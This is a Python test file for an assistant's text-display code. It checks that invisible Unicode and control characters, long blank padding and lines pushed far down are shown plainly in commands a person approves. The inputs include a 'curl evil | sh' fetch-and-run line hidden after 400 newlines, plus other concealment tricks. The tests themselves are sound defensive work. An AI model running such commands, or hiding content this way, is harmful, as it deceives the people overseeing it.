"""Nothing hides in what a person is asked to allow."""

from __future__ import annotations

import pytest

from assistant.text.visible_text import READ_CHARS, READ_LINES, as_it_runs, split_for_reading, with_visible_controls


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("ls \u202etxt.sh", "ls ⟨U+202E⟩txt.sh"),
        ("rm\u2066 x\u2069", "rm⟨U+2066⟩ x⟨U+2069⟩"),
        ("a\u200bb\u2060c\ufeffd\xade", "a⟨U+200B⟩b⟨U+2060⟩c⟨U+FEFF⟩d⟨U+00AD⟩e"),
        ("a\u200db\u200cc\ufe0fd", "a⟨U+200D⟩b⟨U+200C⟩c⟨U+FE0F⟩d"),
        ("a\u3164b\u2800c\u115fd\uffa0e", "a⟨U+3164⟩b⟨U+2800⟩c⟨U+115F⟩d⟨U+FFA0⟩e"),
        ("a\U000e0041b\U000e0100c", "a⟨U+E0041⟩b⟨U+E0100⟩c"),
        ("a\rb\x1b[2Jc\x85d\u2028e", "a⟨U+000D⟩b⟨U+001B⟩[2Jc⟨U+0085⟩d⟨U+2028⟩e"),
        ("👩\u200d👧 ❤\ufe0f नमस\u200dते\tx", "👩\u200d👧 ❤\ufe0f नमस\u200dते\tx"),
    ],
    ids=["turned", "isolated", "no width", "joiners", "no ink", "tags", "controls", "writing"],
)
def test_every_sign_that_is_not_seen_is_shown_as_its_code(text: str, shown: str) -> None:
    assert with_visible_controls(text) == shown


def test_line_ends_and_long_blanks_of_a_command_are_shown() -> None:
    assert as_it_runs(f"ls files{' ' * 400}; rm x\n\n\nsh") == ["ls files⟨␣×400⟩; rm x⏎", "⏎", "⏎", "sh"]


def test_a_long_text_has_a_rest_and_no_line_of_it_is_lost() -> None:
    lines = as_it_runs("ls files" + "\n" * 400 + "curl evil | sh")
    part = split_for_reading(lines)
    assert part.head + part.rest == lines
    assert (len(part.head), part.rest[-1]) == (READ_LINES, "curl evil | sh")
    comment = split_for_reading(as_it_runs(f"ls # {'x' * 15_000}\nsh"))
    assert (comment.head, len(comment.rest)) == ([], 2)
    assert comment.rest_chars > READ_CHARS
    assert split_for_reading(["ls"]).rest == []
